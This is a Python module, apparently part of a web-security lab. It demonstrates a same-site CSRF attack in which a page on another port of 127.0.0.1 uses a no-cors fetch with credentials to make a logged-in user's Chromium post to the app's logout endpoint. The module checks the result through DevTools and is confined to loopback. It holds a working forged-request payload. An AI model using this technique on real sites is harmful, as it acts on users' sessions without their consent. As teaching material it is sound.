"""A page on another port of the same host makes Carol's browser post to the app (CSRF, same site).

Carol is logged in to the app in Chromium. She opens a page served from
another port of 127.0.0.1: another origin, but the same site, so her
SameSite=Lax cookie still goes with its requests. The page sends a POST
to /auth/logout with no body: fetch() in "no-cors" mode needs no CORS
permission for that, and the app's JSON-only rule has no body to refuse.
The page can't read the answer; it doesn't need to: Carol is logged out.
Needs the dev install (Playwright) and Chromium, as the browser tests do.
"""
import os
import threading
from contextlib import contextmanager
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

import lab

WEAK = "previous"       # step 04: no Origin check
# The lab's client only registers Carol. Chromium sends four more, fixed by this
# file: Carol's login, the attacker's page, its one POST, and Carol's /auth/me.
MAX_REQUESTS = 5
MAX_SECONDS = 120      # a safety stop, not a timing: each login costs a real scrypt (N=2^17) and a laptop may be busy

CHROMIUM = Path(os.environ.get("CHROMIUM", "/usr/bin/chromium"))
CHROMIUM_ARGS = ["--no-sandbox", "--disable-gpu", "--disable-background-networking",
                 "--disable-component-update", "--disable-sync", "--no-first-run"]
VICTIM = {"username": "carol", "email": "carol@example.com", "password": "mango tango seventeen!"}
# The attacker's page: one request, sent as the page loads. The title tells the lab it was sent.
PAGE = """<!doctype html><title>loading</title><h1>Cute cats</h1><script>
fetch("%s/auth/logout", {method: "POST", mode: "no-cors", credentials: "include"})
  .finally(() => { document.title = "sent"; });
</script>"""


def attack(target):
    sync_playwright = browser_library()
    target.verified_user(**VICTIM)
    with attackers_site(PAGE % target.url) as page_url, sync_playwright() as playwright:
        browser = playwright.chromium.launch(executable_path=str(CHROMIUM), args=CHROMIUM_ARGS)
        try:
            return visit(browser.new_context(), target, page_url)
        finally:
            browser.close()


def visit(context, target, page_url):
    """Carol logs in, opens the attacker's page, then asks the app who she is."""
    login = context.request.post(f"{target.url}/auth/login", data={k: VICTIM[k] for k in ("username", "password")})
    if login.status != 200:
        raise lab.Missing(f"Carol could not log in ({login.status}): nothing for the page to attack")
    page = context.new_page()
    wire = WhatWentOnTheWire(context, page, f"{target.url}/auth/logout")
    page.goto(page_url)
    page.wait_for_function("document.title === 'sent'", timeout=10_000)
    me = context.request.get(f"{target.url}/auth/me")
    cookie = "with Carol's cookie" if "cookie" in wire.sent else "without a cookie"
    evidence = [f"the page at {page_url} posted to /auth/logout {cookie} "
                f"({wire.sent.get('origin', 'no origin')!r} as its Origin)",
                f"the app answered {wire.status}" + (" (the page can't read it: it doesn't need to)"
                                                      if wire.status and wire.status < 400 else ""),
                f"then Carol's GET /auth/me: {me.status}"
                + (" (logged out by the attacker's page)" if me.status == 401 else " (still logged in)")]
    if wire.status is None or me.status not in (200, 401):
        raise lab.Missing(f"the page's POST got {wire.status} and Carol's /auth/me {me.status}: no verdict")
    return lab.Outcome(got_through=me.status == 401, evidence=evidence)


class WhatWentOnTheWire:
    """The forged request's headers and the app's status, as Chromium saw them
    (its DevTools protocol): the page itself only gets an opaque answer, and a
    refusal marked Cross-Origin-Resource-Policy never reaches it at all.
    Chromium may report the headers before the request itself: keep all, match later."""

    def __init__(self, context, page, url):
        self.url, self.ids, self.headers, self.statuses = url, set(), {}, {}
        devtools = context.new_cdp_session(page)
        devtools.on("Network.requestWillBeSent", self.request)
        devtools.on("Network.requestWillBeSentExtraInfo",
                    lambda event: self.headers.setdefault(event["requestId"], event["headers"]))
        devtools.on("Network.responseReceivedExtraInfo",
                    lambda event: self.statuses.setdefault(event["requestId"], event["statusCode"]))
        devtools.send("Network.enable")

    def request(self, event):
        if event["request"]["url"] == self.url:
            self.ids.add(event["requestId"])

    @property
    def sent(self):
        found = [self.headers[id_] for id_ in self.ids if id_ in self.headers]
        return {name.lower(): value for name, value in found[0].items()} if found else {}

    @property
    def status(self):
        found = [self.statuses[id_] for id_ in self.ids if id_ in self.statuses]
        return found[0] if found else None


def browser_library():
    """Playwright's sync API, or a clear message when this attack can't run here."""
    if not CHROMIUM.exists():
        raise NoBrowser(f"no Chromium at {CHROMIUM}: apt-get install -y chromium, or set CHROMIUM=/path")
    try:
        from playwright.sync_api import sync_playwright
    except ImportError:
        raise NoBrowser("Playwright is not installed: this attack needs the dev install "
                             "(python3 -m tools setup --dev)") from None
    return sync_playwright


class NoBrowser(RuntimeError):
    """This attack can't run here: the runner prints this message as the reason."""


@contextmanager
def attackers_site(html):
    """The attacker's page, served on a free port of 127.0.0.1 while the attack runs."""
    class Page(BaseHTTPRequestHandler):
        def do_GET(self):
            body = html.encode()
            self.send_response(200)
            self.send_header("Content-Type", "text/html; charset=utf-8")
            self.send_header("Content-Length", str(len(body)))
            self.end_headers()
            self.wfile.write(body)

        def log_message(self, *args):  # keep the lab's output to the evidence
            pass

    server = ThreadingHTTPServer(("127.0.0.1", 0), Page)
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    try:
        url = f"http://127.0.0.1:{server.server_address[1]}/"
        lab.require_loopback(url)
        yield url
    finally:
        server.shutdown()
        server.server_close()
